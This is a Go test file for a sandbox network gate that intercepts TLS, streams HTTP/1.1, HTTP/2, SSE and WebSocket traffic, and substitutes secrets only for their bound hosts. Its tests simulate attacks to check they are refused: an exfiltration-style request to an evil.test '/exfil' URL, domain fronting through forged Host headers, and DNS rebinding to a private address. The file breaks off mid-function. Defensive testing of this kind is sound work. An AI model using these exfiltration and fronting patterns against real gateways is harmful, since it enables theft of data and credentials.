package gate

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha1"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"moat.dev/moat/internal/audit"
	"moat.dev/moat/internal/config"
	"moat.dev/moat/internal/policy"
	"moat.dev/moat/internal/secret"
	"moat.dev/moat/internal/tlsca"
)

// upstream is the real host behind an intercepted connection: a TLS
// server on loopback with its own CA (which the gate is told to trust and
// the guest is not), HTTP/2 enabled.
type upstream struct {
	addr  string // its loopback address
	ca    *tlsca.CA
	roots *x509.CertPool
	hits  atomic.Int64
	// seen is the last Authorization header the upstream received.
	seenMu sync.Mutex
	seen   []string
	// sse paces the event stream: the upstream sends event i+1 only once
	// the test has read event i.
	sse chan struct{}
	// got carries the first bytes of a trickled upload.
	got chan string
}

func (u *upstream) lastAuth() []string {
	u.seenMu.Lock()
	defer u.seenMu.Unlock()
	return append([]string(nil), u.seen...)
}

func startUpstream(t testing.TB) *upstream {
	t.Helper()
	ca, err := tlsca.LoadOrCreate(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	u := &upstream{addr: loopback(), ca: ca, roots: x509.NewCertPool(), sse: make(chan struct{}), got: make(chan string)}
	u.roots.AddCert(ca.Cert())
	mux := http.NewServeMux()
	mux.HandleFunc("/echo", func(w http.ResponseWriter, r *http.Request) {
		u.hits.Add(1)
		u.seenMu.Lock()
		u.seen = append(u.seen, r.Header.Get("Authorization"))
		u.seenMu.Unlock()
		// Echo the credential back, in a header and in the body, as a
		// careless (or hostile) server would.
		w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
		fmt.Fprintf(w, "proto=%s host=%s auth=%s query=%s\n", r.Proto, r.Host, r.Header.Get("Authorization"), r.URL.RawQuery)
	})
	mux.HandleFunc("/upload", func(w http.ResponseWriter, r *http.Request) {
		u.hits.Add(1)
		h := crc32.NewIEEE()
		n, err := io.Copy(h, r.Body)
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		fmt.Fprintf(w, "%d %08x", n, h.Sum32())
	})
	mux.HandleFunc("/download", func(w http.ResponseWriter, r *http.Request) {
		u.hits.Add(1)
		n, _ := strconv.ParseInt(r.URL.Query().Get("n"), 10, 64)
		if r.URL.Query().Get("len") == "1" {
			w.Header().Set("Content-Length", strconv.FormatInt(n, 10))
		}
		io.Copy(w, io.LimitReader(pattern{}, n))
	})
	mux.HandleFunc("/sse", func(w http.ResponseWriter, r *http.Request) {
		u.hits.Add(1)
		w.Header().Set("Content-Type", "text/event-stream")
		rc := http.NewResponseController(w)
		for i := range 3 {
			fmt.Fprintf(w, "data: event %d\n\n", i)
			rc.Flush()
			select {
			case <-u.sse:
			case <-r.Context().Done():
				return
			case <-time.After(5 * time.Second):
				return // the test never saw the event: it will fail
			}
		}
	})
	mux.HandleFunc("/trickle", func(w http.ResponseWriter, r *http.Request) {
		// Reports the first bytes of the upload as soon as they arrive.
		b := make([]byte, 5)
		if _, err := io.ReadFull(r.Body, b); err != nil {
			return
		}
		select {
		case u.got <- string(b):
		case <-time.After(5 * time.Second):
		}
		n, _ := io.Copy(io.Discard, r.Body)
		fmt.Fprintf(w, "%d", n+5)
	})
	mux.HandleFunc("/ws", wsEcho)
	mux.HandleFunc("/echo-elsewhere", echoElsewhere)
	s := httptest.NewUnstartedServer(mux)
	s.Listener = listenAt(t, u.addr+":443")
	s.EnableHTTP2 = true
	s.TLS = &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return ca.Leaf(h.ServerName) }}
	s.StartTLS()
	t.Cleanup(s.Close)
	return u
}

// pattern is an endless, cheap, non-constant byte stream.
type pattern struct{}

var patternBlock = func() []byte {
	b := make([]byte, 64<<10)
	for i := range b {
		b[i] = byte(i*7 + i>>8)
	}
	return b
}()

func (pattern) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		n += copy(p[n:], patternBlock)
	}
	return n, nil
}

// wsEcho is a minimal WebSocket server (RFC 6455): it upgrades, then
// echoes every frame's payload back unmasked. Enough to prove that the
// upgrade and the stream after it pass through the gate.
func wsEcho(w http.ResponseWriter, r *http.Request) {
	if !strings.EqualFold(r.Header.Get("Upgrade"), "websocket") {
		http.Error(w, "not a websocket request", 400)
		return
	}
	h := sha1.Sum([]byte(r.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
	c, brw, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer c.Close()
	fmt.Fprintf(brw, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n",
		base64.StdEncoding.EncodeToString(h[:]))
	brw.Flush()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	for {
		payload, err := wsRead(brw.Reader)
		if err != nil {
			return
		}
		c.Write(wsFrame(payload, false))
	}
}

// wsFrame is a final text frame of a short payload, masked when a client
// sends it.
func wsFrame(payload []byte, masked bool) []byte {
	b := []byte{0x81, byte(len(payload))}
	if !masked {
		return append(b, payload...)
	}
	b[1] |= 0x80
	key := []byte{1, 2, 3, 4}
	b = append(b, key...)
	for i, c := range payload {
		b = append(b, c^key[i%4])
	}
	return b
}

func wsRead(r *bufio.Reader) ([]byte, error) {
	var h [2]byte
	if _, err := io.ReadFull(r, h[:]); err != nil {
		return nil, err
	}
	n := int(h[1] & 0x7f)
	if n > 125 {
		return nil, errors.New("long frames are not needed here")
	}
	var key [4]byte
	if h[1]&0x80 != 0 {
		if _, err := io.ReadFull(r, key[:]); err != nil {
			return nil, err
		}
	}
	p := make([]byte, n)
	if _, err := io.ReadFull(r, p); err != nil {
		return nil, err
	}
	for i := range p {
		p[i] ^= key[i%4]
	}
	return p, nil
}

// mitmFixture is a gate with the sandbox's CA, in front of an upstream.
type mitmFixture struct {
	*fixture
	ca    *tlsca.CA
	roots *x509.CertPool // the guest's: the sandbox CA only
	up    *upstream
	flows sync.WaitGroup
}

// names the test DNS answers, all with the upstream's address.
var mitmNames = []string{"api.test", "other.test", "open.test", "rules.test"}

func newMITMFixture(t testing.TB, allow []string, edit func(*Options)) *mitmFixture {
	t.Helper()
	up := startUpstream(t)
	records := map[string]string{}
	for _, n := range mitmNames {
		records[n] = up.addr
	}
	dns := startDNS(t, records)
	// The upstream is on loopback, a class no name rule opens: the
	// address rule stands in for a public address.
	rules, err := policy.FromEntries(append(allow, up.addr), policy.Allow, policy.LayerProject, "moat.toml")
	if err != nil {
		t.Fatal(err)
	}
	ca, err := tlsca.LoadOrCreate(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	al, err := audit.Open(path, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { al.Close() })
	f := &mitmFixture{fixture: &fixture{dns: dns, ledger: audit.NewLedger(100), log: al, path: path},
		ca: ca, roots: x509.NewCertPool(), up: up}
	f.roots.AddCert(ca.Cert())
	o := Options{
		Sandbox:       "sb",
		Policy:        policy.Compile(rules),
		Resolver:      NewResolver(ResolverOptions{Servers: []netip.AddrPort{dns.addr}}),
		Audit:         al,
		Ledger:        f.ledger,
		PeekTimeout:   2 * time.Second,
		DialTimeout:   2 * time.Second,
		Certs:         ca,
		UpstreamRoots: up.roots,
	}
	if edit != nil {
		edit(&o)
	}
	f.g = New(o)
	return f
}

// dial is the guest connecting to dst: the gate decides the flow as it
// does a real one, and the guest's end is returned.
func (f *mitmFixture) dial(dst string) (net.Conn, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	defer ln.Close()
	f.flows.Add(1)
	go func() {
		defer f.flows.Done()
		f.g.HandleTCP(context.Background(), TCPFlow{
			Src:    netip.MustParseAddrPort("10.88.0.2:40000"),
			Dst:    netip.MustParseAddrPort(dst),
			Accept: func() (net.Conn, error) { return net.Dial("tcp", ln.Addr().String()) },
			Refuse: func() { ln.Close() },
		})
	}()
	ln.(*net.TCPListener).SetDeadline(time.Now().Add(5 * time.Second))
	return ln.Accept()
}

// client is the guest's HTTP client: it trusts roots, speaks HTTP/2 when
// h2, and reaches every host through the gate.
func (f *mitmFixture) client(t testing.TB, h2 bool, roots *x509.CertPool) *http.Client {
	tr := &http.Transport{
		DialContext:        func(context.Context, string, string) (net.Conn, error) { return f.dial("198.51.100.66:443") },
		TLSClientConfig:    &tls.Config{RootCAs: roots},
		ForceAttemptHTTP2:  h2,
		DisableCompression: true,
	}
	if !h2 {
		tr.Protocols = new(http.Protocols)
		tr.Protocols.SetHTTP1(true)
	}
	t.Cleanup(tr.CloseIdleConnections)
	return &http.Client{Transport: tr, Timeout: 30 * time.Second}
}

// done closes the guest's connections, waits for the gate to finish every
// flow, and returns the audit.
func (f *mitmFixture) done(t testing.TB, clients ...*http.Client) []audit.Record {
	t.Helper()
	for _, c := range clients {
		c.CloseIdleConnections()
	}
	ch := make(chan struct{})
	go func() { f.flows.Wait(); close(ch) }()
	select {
	case <-ch:
	case <-time.After(10 * time.Second):
		t.Fatal("the gate did not finish its flows within 10 s")
	}
	return f.records(t)
}

func get(t *testing.T, c *http.Client, url string) (*http.Response, string) {
	t.Helper()
	resp, err := c.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(b)
}

func byProto(recs []audit.Record, proto string) []audit.Record {
	var out []audit.Record
	for _, r := range recs {
		if r.Proto == proto {
			out = append(out, r)
		}
	}
	return out
}

func TestInterceptSpeaksHTTP1AndHTTP2(t *testing.T) {
	f := newMITMFixture(t, []string{"api.test"}, func(o *Options) { o.Inspect = true })
	for _, tc := range []struct {
		name      string
		h2        bool
		wantProto string
	}{
		{"http1", false, "HTTP/1.1"},
		{"http2", true, "HTTP/2.0"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := f.client(t, tc.h2, f.roots)
			resp, body := get(t, c, "https://api.test/echo?x=1")
			if resp.StatusCode != 200 || resp.Proto != tc.wantProto {
				t.Fatalf("got %d over %s, want 200 over %s", resp.StatusCode, resp.Proto, tc.wantProto)
			}
			// The guest saw the sandbox CA's leaf for the name; the real
			// host was reached over HTTP/2 whatever the guest spoke.
			if got := resp.TLS.PeerCertificates[0]; got.Issuer.CommonName != f.ca.Cert().Subject.CommonName || got.DNSNames[0] != "api.test" {
				t.Errorf("leaf %v for %v, want one from the sandbox CA for api.test", got.Issuer, got.DNSNames)
			}
			if want := "proto=HTTP/2.0 host=api.test "; !strings.HasPrefix(body, want) {
				t.Errorf("upstream saw %q, want prefix %q", body, want)
			}
			c.CloseIdleConnections()
		})
	}
	recs := f.done(t)
	reqs := byProto(recs, "http")
	if len(reqs) != 2 {
		t.Fatalf("request records = %+v", recs)
	}
	for _, r := range reqs {
		if r.Verdict != "allow" || r.Method != "GET" || r.Path != "/echo" || r.Status != 200 ||
			r.Name != "api.test" || r.Upstream != f.up.addr+":443" || r.BytesDown == 0 {
			t.Errorf("request record %+v", r)
		}
	}
	conns := byProto(recs, "tcp")
	if len(conns) != 2 || conns[0].Verdict != "allow" || !strings.Contains(string(conns[0].Reason), "inspect = true") || conns[0].BytesDown == 0 {
		t.Errorf("connection records %+v", conns)
	}
}

// No upstream roots means the host's, not none: an upstream whose
// certificate only the test's own CA vouches for is not trusted, and the
// guest is told so instead of being handed what it sent.
func TestInterceptWithHostRootsRefusesAnUnknownIssuer(t *testing.T) {
	f := newMITMFixture(t, []string{"api.test"}, func(o *Options) {
		o.Inspect = true
		o.UpstreamRoots = nil
	})
	c := f.client(t, false, f.roots)
	resp, body := get(t, c, "https://api.test/echo")
	if resp.StatusCode != http.StatusBadGateway || !strings.Contains(body, "certificate") {
		t.Fatalf("got %d %q, want 502 naming the upstream's certificate", resp.StatusCode, body)
	}
	recs := byProto(f.done(t, c), "http")
	if len(recs) != 1 || !strings.Contains(string(recs[0].Reason), "x509") {
		t.Fatalf("request records %+v, want one whose reason is the verification error", recs)
	}
}

func TestSplicedHostKeepsItsCertificate(t *testing.T) {
	// Certs set, nothing asks for interception: the guest talks to the
	// real host, certificate and all (pinning and mutual TLS keep working).
	f := newMITMFixture(t, []string{"api.test"}, nil)
	c := f.client(t, true, f.up.roots)
	resp, _ := get(t, c, "https://api.test/echo")
	if got := resp.TLS.PeerCertificates[0].Issuer.CommonName; got != f.up.ca.Cert().Subject.CommonName {
		t.Fatalf("issuer %q, want the upstream's own CA", got)
	}
	recs := f.done(t, c)
	if len(byProto(recs, "http")) != 0 || len(recs) != 1 || recs[0].Upstream != f.up.addr+":443" {
		t.Fatalf("audit = %+v", recs)
	}
}

func TestInterceptStreamsLargeBodies(t *testing.T) {
	const size = 16 << 20
	f := newMITMFixture(t, []string{"api.test"}, func(o *Options) { o.Inspect = true })
	for _, h2 := range []bool{false, true} {
		c := f.client(t, h2, f.roots)
		// Upload of unknown length: streamed, counted and checked whole.
		h := crc32.NewIEEE()
		body := io.TeeReader(io.LimitReader(pattern{}, size), h)
		resp, err := c.Post("https://api.test/upload", "application/octet-stream", io.NopCloser(body))
		if err != nil {
			t.Fatal(err)
		}
		got, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if want := fmt.Sprintf("%d %08x", size, h.Sum32()); string(got) != want {
			t.Errorf("h2=%v upload: upstream got %q, want %q", h2, got, want)
		}
		// Downloads with and without a length.
		for _, withLen := range []string{"0", "1"} {
			resp, err := c.Get("https://api.test/download?n=" + strconv.Itoa(size) + "&len=" + withLen)
			if err != nil {
				t.Fatal(err)
			}
			h := crc32.NewIEEE()
			n, err := io.Copy(h, resp.Body)
			resp.Body.Close()
			wh := crc32.NewIEEE()
			io.Copy(wh, io.LimitReader(pattern{}, size))
			if err != nil || n != size || h.Sum32() != wh.Sum32() {
				t.Errorf("h2=%v len=%s download: %d bytes, %v; crc equal %v", h2, withLen, n, err, h.Sum32() == wh.Sum32())
			}
		}
		c.CloseIdleConnections()
	}
	var up, down int64
	for _, r := range byProto(f.done(t), "http") {
		up += r.BytesUp
		down += r.BytesDown
	}
	if up != 2*size || down < 4*size {
		t.Errorf("audited %d bytes up, %d down; want %d and at least %d", up, down, 2*size, 4*size)
	}
}

func TestInterceptStreamsAnUploadAsItIsSent(t *testing.T) {
	// The first bytes of an upload reach the host while the guest still
	// holds the rest back: the gate forwards, it does not collect.
	f := newMITMFixture(t, []string{"api.test"}, func(o *Options) { o.Inspect = true })
	for _, h2 := range []bool{false, true} {
		c := f.client(t, h2, f.roots)
		pr, pw := io.Pipe()
		type result struct {
			body string
			err  error
		}
		res := make(chan result, 1)
		go func() {
			resp, err := c.Post("https://api.test/trickle", "text/plain", pr)
			if err != nil {
				res <- result{err: err}
				return
			}
			b, err := io.ReadAll(resp.Body)
			resp.Body.Close()
			res <- result{string(b), err}
		}()
		io.WriteString(pw, "first")
		select {
		case got := <-f.up.got:
			if got != "first" {
				t.Fatalf("h2=%v: upstream got %q first", h2, got)
			}
		case <-time.After(3 * time.Second):
			t.Fatalf("h2=%v: the first bytes were held back by the gate", h2)
		}
		io.WriteString(pw, " and the rest")
		pw.Close()
		if r := <-res; r.err != nil || r.body != "18" {
			t.Fatalf("h2=%v: %q, %v", h2, r.body, r.err)
		}
		c.CloseIdleConnections()
	}
	f.done(t)
}

func TestInterceptFlushesServerSentEvents(t *testing.T) {
	// api.test is bound to a secret: its answers are scrubbed as they
	// stream, and scrubbing must not hold an event back either.
	f := newMITMFixture(t, []string{"api.test", "open.test"}, func(o *Options) {
		o.Inspect = true
		o.Credentials = testSecrets(t, false)
	})
	for _, tc := range []struct {
		host string
		h2   bool
	}{{"open.test", false}, {"open.test", true}, {"api.test", false}, {"api.test", true}} {
		c := f.client(t, tc.h2, f.roots)
		resp, err := c.Get("https://" + tc.host + "/sse")
		if err != nil {
			t.Fatal(err)
		}
		// The upstream holds event i+1 back until the test has read event
		// i: a gate that buffered the stream would stall it, and the
		// event would not arrive in time.
		lines := make(chan string)
		go func() {
			defer close(lines)
			br := bufio.NewReader(resp.Body)
			for {
				l, err := br.ReadString('\n')
				if err != nil {
					return
				}
				if l != "\n" {
					lines <- l
				}
			}
		}()
		for i := range 3 {
			select {
			case line := <-lines:
				if want := fmt.Sprintf("data: event %d\n", i); line != want {
					t.Fatalf("%s h2=%v: got %q, want %q", tc.host, tc.h2, line, want)
				}
			case <-time.After(3 * time.Second):
				t.Fatalf("%s h2=%v: event %d held back by the gate", tc.host, tc.h2, i)
			}
			select {
			case f.up.sse <- struct{}{}:
			case <-time.After(3 * time.Second):
				t.Fatalf("%s h2=%v: the upstream stopped waiting", tc.host, tc.h2)
			}
		}
		resp.Body.Close()
		c.CloseIdleConnections()
	}
	f.done(t)
}

func TestInterceptCarriesWebSocket(t *testing.T) {
	f := newMITMFixture(t, []string{"api.test"}, func(o *Options) { o.Inspect = true })
	c := f.client(t, false, f.roots)
	req, _ := http.NewRequest("GET", "https://api.test/ws", nil)
	req.Header.Set("Upgrade", "websocket")
	req.Header.Set("Connection", "Upgrade")
	req.Header.Set("Sec-WebSocket-Version", "13")
	req.Header.Set("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
	// The transport itself: a client with a timeout hides the upgraded
	// connection behind a body that only reads.
	resp, err := c.Transport.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusSwitchingProtocols || resp.Header.Get("Sec-Websocket-Accept") != "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=" {
		t.Fatalf("got %d %v", resp.StatusCode, resp.Header)
	}
	ws := resp.Body.(io.ReadWriteCloser)
	br := bufio.NewReader(ws)
	for _, msg := range []string{"hello", "through the gate"} {
		if _, err := ws.Write(wsFrame([]byte(msg), true)); err != nil {
			t.Fatal(err)
		}
		got, err := wsRead(br)
		if err != nil || string(got) != msg {
			t.Fatalf("echo %q, %v; want %q", got, err, msg)
		}
	}
	ws.Close()
	reqs := byProto(f.done(t, c), "http")
	if len(reqs) != 1 || reqs[0].Status != http.StatusSwitchingProtocols || reqs[0].BytesUp == 0 || reqs[0].BytesDown == 0 {
		t.Fatalf("request records %+v", reqs)
	}
}

func TestInterceptRefusesDomainFronting(t *testing.T) {
	// other.test is allowed too: fronting is refused because the names
	// differ, not because the second one is denied (threat model 11).
	f := newMITMFixture(t, []string{"api.test", "other.test"}, func(o *Options) { o.Inspect = true })
	for _, h2 := range []bool{false, true} {
		c := f.client(t, h2, f.roots)
		for _, host := range []string{"other.test", "API.test.:443"} {
			req, _ := http.NewRequest("GET", "https://api.test/echo", nil)
			req.Host = host
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			want := 200
			if host == "other.test" {
				want = http.StatusMisdirectedRequest
			}
			if resp.StatusCode != want {
				t.Errorf("h2=%v Host %q: got %d %q, want %d", h2, host, resp.StatusCode, b, want)
			}
		}
		c.CloseIdleConnections()
	}
	// An absolute-form target names the host too (and wins over Host).
	conn, err := f.dial("198.51.100.66:443")
	if err != nil {
		t.Fatal(err)
	}
	tc := tls.Client(conn, &tls.Config{ServerName: "api.test", RootCAs: f.roots, NextProtos: []string{"http/1.1"}})
	tc.SetDeadline(time.Now().Add(5 * time.Second))
	io.WriteString(tc, "GET https://other.test/echo HTTP/1.1\r\nHost: api.test\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	tc.Close()
	if resp.StatusCode != http.StatusMisdirectedRequest {
		t.Errorf("absolute-form target: got %d", resp.StatusCode)
	}
	if got := f.up.hits.Load(); got != 2 {
		t.Errorf("upstream hit %d times, want 2 (the same-name requests only)", got)
	}
	var denied int64
	for _, r := range byProto(f.done(t), "http") {
		if r.Verdict == "deny" {
			denied += max(r.Count, 1) // identical refusals are one record and an aggregate
			if !r.Reason.Is(audit.ReasonFronting) || r.Status != http.StatusMisdirectedRequest {
				t.Errorf("denial %+v", r)
			}
		}
	}
	if denied != 3 {
		t.Errorf("%d fronting denials audited, want 3", denied)
	}
}

func TestDeniedSNIGetsThePageOverTLS(t *testing.T) {
	f := newMITMFixture(t, []string{"api.test"}, nil)
	for _, h2 := range []bool{false, true} {
		c := f.client(t, h2, f.roots)
		resp, body := get(t, c, "https://evil.test/exfil?d=1")
		if resp.StatusCode != 403 || !strings.Contains(body, "moat network allow sb evil.test") || resp.Header.Get("X-Moat-Denied") != "evil.test" {
			t.Errorf("h2=%v: got %d %q", h2, resp.StatusCode, body)
		}
		c.CloseIdleConnections()
	}
	if f.dns.asked("evil.test") {
		t.Error("the denied name was resolved")
	}
	recs := f.done(t)
	if len(recs) != 2 || recs[0].Verdict != "deny" || recs[0].Name != "evil.test" || len(byProto(recs, "http")) != 0 {
		t.Fatalf("audit = %+v", recs)
	}
	if e := f.ledger.Entries(); len(e) != 1 || e[0].Count != 2 {
		t.Errorf("ledger = %+v", e)
	}
}

func TestInterceptedNameRebindingToPrivateIsRefused(t *testing.T) {
	// The upstream leg dials like a spliced flow: an allowed name that
	// resolves to a private address gets nothing (threat model 16, 18–20).
	f := newMITMFixture(t, []string{"rebind.test"}, func(o *Options) { o.Inspect = true })
	f.dns.mu.Lock()
	f.dns.a["rebind.test"] = "10.1.2.3"
	f.dns.mu.Unlock()
	c := f.client(t, true, f.roots)
	resp, body := get(t, c, "https://rebind.test/echo")
	if resp.StatusCode != http.StatusBadGateway || !strings.Contains(body, "refused class") {
		t.Fatalf("got %d %q", resp.StatusCode, body)
	}
	reqs := byProto(f.done(t, c), "http")
	if len(reqs) != 1 || reqs[0].Verdict != "deny" || reqs[0].Status != http.StatusBadGateway {
		t.Fatalf("request records %+v", reqs)
	}
}

func TestDeniedSNIWithoutCAGetsAnAlert(t *testing.T) {
	f := newMITMFixture(t, []string{"api.test"}, func(o *Options) { o.Certs = nil })
	c := f.client(t, false, f.roots)
	_, err := c.Get("https://evil.test/")
	if err == nil || !strings.Contains(err.Error(), "access denied") {
		t.Fatalf("got %v, want a TLS access_denied alert", err)
	}
	f.done(t, c)
}

// BenchmarkDownload moves 256 MiB through each path in the same run:
// direct to the upstream, through the gate spliced, through the gate
// intercepted (the guest speaking HTTP/2 or HTTP/1.1; the upstream leg is
// HTTP/2), and intercepted for a host a secret is bound to, whose answer
// is scrubbed as it streams.
func BenchmarkDownload(b *testing.B) {
	const size = 256 << 20
	f := newMITMFixture(b, []string{"api.test"}, nil)
	o := f.g.o
	o.Inspect = true
	inspectAll := New(o)
	o.Credentials = testSecrets(b, false)
	bound := New(o)
	via := func(g *Gate) func() (net.Conn, error) {
		return func() (net.Conn, error) { return dialGate(g, "198.51.100.66:443") }
	}
	for _, tc := range []struct {
		name string
		dial func() (net.Conn, error)
		root *x509.CertPool
		h1   bool
	}{
		{"direct", func() (net.Conn, error) { return net.Dial("tcp", f.up.addr+":443") }, f.up.roots, false},
		{"spliced", via(f.g), f.up.roots, false},
		{"intercepted", via(inspectAll), f.roots, false},
		{"intercepted-h1", via(inspectAll), f.roots, true},
		{"intercepted-scrubbed", via(bound), f.roots, false},
	} {
		b.Run(tc.name, func(b *testing.B) {
			tr := &http.Transport{
				DialContext:        func(context.Context, string, string) (net.Conn, error) { return tc.dial() },
				TLSClientConfig:    &tls.Config{RootCAs: tc.root},
				ForceAttemptHTTP2:  true,
				DisableCompression: true,
			}
			if tc.h1 {
				tr.Protocols = new(http.Protocols)
				tr.Protocols.SetHTTP1(true)
			}
			defer tr.CloseIdleConnections()
			c := &http.Client{Transport: tr}
			b.SetBytes(size)
			for b.Loop() {
				resp, err := c.Get("https://api.test/download?len=1&n=" + strconv.Itoa(size))
				if err != nil {
					b.Fatal(err)
				}
				n, err := io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if err != nil || n != size {
					b.Fatalf("%d bytes, %v", n, err)
				}
			}
		})
	}
}

// dialGate is dial for a gate other than the fixture's own.
func dialGate(g *Gate, dst string) (net.Conn, error) {
	f := &mitmFixture{fixture: &fixture{g: g}}
	return f.dial(dst)
}

// BenchmarkHandshake times the guest's TLS handshake through the gate:
// spliced (the real host answers), intercepted for a name whose leaf is
// cached, and intercepted for a new name each time (a leaf is minted).
func BenchmarkHandshake(b *testing.B) {
	f := newMITMFixture(b, []string{"api.test", "*.new.test"}, nil)
	inspectAll := New(f.g.o)
	inspectAll.o.Inspect = true
	var n atomic.Int64
	for _, tc := range []struct {
		name string
		g    *Gate
		sni  func() string
		root *x509.CertPool
	}{
		{"spliced", f.g, func() string { return "api.test" }, f.up.roots},
		{"intercepted-cached", inspectAll, func() string { return "api.test" }, f.roots},
		{"intercepted-new", inspectAll, func() string { return fmt.Sprintf("h%d.new.test", n.Add(1)) }, f.roots},
	} {
		b.Run(tc.name, func(b *testing.B) {
			var lat []time.Duration
			for b.Loop() {
				start := time.Now()
				c, err := dialGate(tc.g, "198.51.100.66:443")
				if err != nil {
					b.Fatal(err)
				}
				tc2 := tls.Client(c, &tls.Config{ServerName: tc.sni(), RootCAs: tc.root})
				if err := tc2.Handshake(); err != nil {
					b.Fatal(err)
				}
				lat = append(lat, time.Since(start))
				tc2.Close()
			}
			reportPercentiles(b, lat)
		})
	}
}

func reportPercentiles(b *testing.B, lat []time.Duration) {
	if len(lat) == 0 {
		return
	}
	s := append([]time.Duration(nil), lat...)
	slices.Sort(s)
	b.ReportMetric(float64(s[len(s)*50/100].Microseconds()), "p50-µs")
	b.ReportMetric(float64(s[min(len(s)-1, len(s)*99/100)].Microseconds()), "p99-µs")
}

// canary is the secret's value in the credential tests: it must reach the
// upstream it is bound to and nothing else.
const canary = "moat-canary-7f3a9c1e5b2d"

func testSecrets(t testing.TB, require bool) *secret.Set {
	t.Helper()
	s, err := secret.Resolve(context.Background(), map[string]config.Secret{
		"API_KEY": {Name: "API_KEY", From: "env:MOAT_TEST_API_KEY", Hosts: []string{"api.test"}, Require: require},
	}, func(k string) (string, bool) { return canary, k == "MOAT_TEST_API_KEY" })
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestInterceptSwapsSecretOnlyForItsHost(t *testing.T) {
	creds := testSecrets(t, false)
	ph := creds.Placeholders()["API_KEY"]
	f := newMITMFixture(t, []string{"api.test", "open.test"}, func(o *Options) { o.Credentials = creds; o.Inspect = true })
	for _, h2 := range []bool{false, true} {
		c := f.client(t, h2, f.roots)
		for _, tc := range []struct {
			host, wantUpstream string
		}{
			{"api.test", "Bearer " + canary}, // bound: swapped
			{"open.test", "Bearer " + ph},    // not bound: stays a placeholder (threat model 24)
		} {
			req, _ := http.NewRequest("GET", "https://"+tc.host+"/echo", nil)
			req.Header.Set("Authorization", "Bearer "+ph)
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if got := f.up.lastAuth(); got[len(got)-1] != tc.wantUpstream {
				t.Errorf("h2=%v %s: upstream got %q, want %q", h2, tc.host, got[len(got)-1], tc.wantUpstream)
			}
			// The upstream echoed what it got; the guest gets the
			// placeholder back, never the value (threat model 23).
			if strings.Contains(string(body), canary) || strings.Contains(fmt.Sprint(resp.Header), canary) {
				t.Errorf("h2=%v %s: the value reached the guest: %q %v", h2, tc.host, body, resp.Header)
			}
			if !strings.Contains(string(body), "auth=Bearer "+ph) || resp.Header.Get("X-Echo-Auth") != "Bearer "+ph {
				t.Errorf("h2=%v %s: echo %q, header %q; want the placeholder", h2, tc.host, body, resp.Header.Get("X-Echo-Auth"))
			}
		}
		c.CloseIdleConnections()
	}
	recs := f.done(t)
	var swapped int
	for _, r := range byProto(recs, "http") {
		if r.Name == "api.test" {
			swapped++
			if !slices.Equal(r.Transforms, []string{"API_KEY:header:authorization"}) {
				t.Errorf("api.test record transforms %q", r.Transforms)
			}
		} else if len(r.Transforms) != 0 {
			t.Errorf("%s record transforms %q", r.Name, r.Transforms)
		}
	}
	if swapped != 2 {
		t.Errorf("%d swaps audited, want 2", swapped)
	}
	if b, _ := os.ReadFile(f.path); bytes.Contains(b, []byte(canary)) {
		t.Error("the value is in the audit log")
	}
}

func TestInterceptRequireRefusesAForeignToken(t *testing.T) {
	creds := testSecrets(t, true)
	f := newMITMFixture(t, []string{"api.test"}, func(o *Options) { o.Credentials = creds })
	c := f.client(t, true, f.roots)
	req, _ := http.NewRequest("GET", "https://api.test/echo", nil)
	req.Header.Set("Authorization", "Bearer the-guests-own-token")
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 403 || !strings.Contains(string(body), "API_KEY") || strings.Contains(string(body), canary) {
		t.Fatalf("got %d %q, want 403 naming the secret", resp.StatusCode, body)
	}
	if f.up.hits.Load() != 0 {
		t.Error("the upstream was reached")
	}
	reqs := byProto(f.done(t, c), "http")
	if len(reqs) != 1 || reqs[0].Verdict != "deny" || !strings.Contains(string(reqs[0].Reason), "API_KEY") || reqs[0].Status != 403 {
		t.Fatalf("request records %+v", reqs)
	}
}

func TestBoundHostWithoutCAIsRefused(t *testing.T) {
	// Splicing would carry the placeholder unread; the gate refuses
	// instead (fail closed), and says why in the audit.
	f := newMITMFixture(t, []string{"api.test", "rules.test", "GET rules.test/*"}, func(o *Options) {
		o.Certs = nil
		o.Credentials = testSecrets(t, false)
	})
	c := f.client(t, false, f.up.roots)
	for _, host := range []string{"api.test", "rules.test"} {
